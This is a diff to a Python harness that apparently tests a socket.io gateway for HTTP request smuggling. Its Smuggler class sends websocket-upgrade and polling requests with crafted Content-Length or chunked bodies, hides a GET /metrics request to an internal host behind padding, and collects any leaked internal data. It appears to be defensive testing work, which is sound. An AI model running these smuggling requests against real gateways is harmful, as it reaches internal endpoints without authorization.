@@ -24,21 +24,27 @@ POLLING = "/socket.io/?EIO=4&transport=polling"
 # request.
 SIZES = (1, 40, 150, 300, 1000)
 HIDDEN = b"GET /metrics HTTP/1.1\r\nHost: inside\r\n\r\n"
+REFUSED = b"A body is not allowed here"
 # Session ids, names of events, and what the inside alone may read.
 FOREIGN = (b"gateway_sockets", b'"tick"', b'"sid"', b'"connected"', b'"joined_')
 
 
 @dataclass
 class Loot:
-    """What came of the attacks: answers by status (0: closed without one), and answers with something foreign."""
+    """What came of the attacks: answers by status (0: closed without one), and answers with something foreign.
+
+    `refused` are those that the gateway refused for what they are.
+    """
 
     statuses: Counter[int] = field(default_factory=Counter)
+    refused: int = 0
     foreign: list[bytes] = field(default_factory=list)
 
     def take(self, answer: bytes) -> None:
         """Count an answer."""
         words = answer.split(b" ", 2)
         self.statuses[int(words[1]) if answer.startswith(b"HTTP/1.") else 0] += 1
+        self.refused += REFUSED in answer
         if any(mark in answer for mark in FOREIGN):
             self.foreign.append(answer)
 
@@ -87,20 +93,31 @@ class Smuggler:
             writer.transport.abort()
         self._held.clear()
 
+    async def attack_openly(self) -> Loot:
+        """Announce a body, once, and hide nothing."""
+        await self._ask(_head(WEBSOCKET, *_upgrade(13), b"Content-Length: 1") + b"G")
+        return self.loot
+
     async def _once(self, number: int) -> None:
         sid = self._sids[number % len(self._sids)]
         size = SIZES[number % len(SIZES)]
         if number % 4 == 3:
-            body = [b"Transfer-Encoding: chunked"], b"%x\r\n%b\r\n0\r\n\r\n" % (size, bytes(size))
+            field, body = b"Transfer-Encoding: chunked", b"%x\r\n%b\r\n0\r\n\r\n" % (size, bytes(size))
         else:
-            body = [b"Content-Length: %d" % size], b"G" * size
-        version = (12, 13, 13, 12)[number // len(SIZES) % 4]
-        fields, content = body
-        await self._ask(_head(f"{WEBSOCKET}&sid={sid}", *_upgrade(version), *fields) + content)
+            field, body = b"Content-Length: %d" % size, b"G" * size
+        kind = number // len(SIZES) % 6
+        if kind < 4:
+            # Also with what makes the other process answer with something else than a 101.
+            head = _head(f"{WEBSOCKET}&sid={sid}", *_upgrade(12 if kind % 2 else 13), field)
+        elif kind == 4:
+            head = _head(f"{POLLING}&sid={sid}", field)
+        else:
+            head = _head(f"{WEBSOCKET}&sid={sid}", *_upgrade(13), field, method="POST")
+        await self._ask(head + body)
         # What the announced body would swallow: blank lines, then a request that no proxy lets through.
         hidden = b"\r\n" * 600 + HIDDEN
-        fields = [b"Content-Length: %d" % len(hidden)]
-        post = _head(f"{POLLING}&sid={sid}&t={next(self._stamps)}", *fields, method="POST")
+        length = b"Content-Length: %d" % len(hidden)
+        post = _head(f"{POLLING}&sid={sid}&t={next(self._stamps)}", length, method="POST")
         await self._ask(post + hidden, counted=False)
 
     async def _ask(self, request: bytes, *, counted: bool = True) -> None:
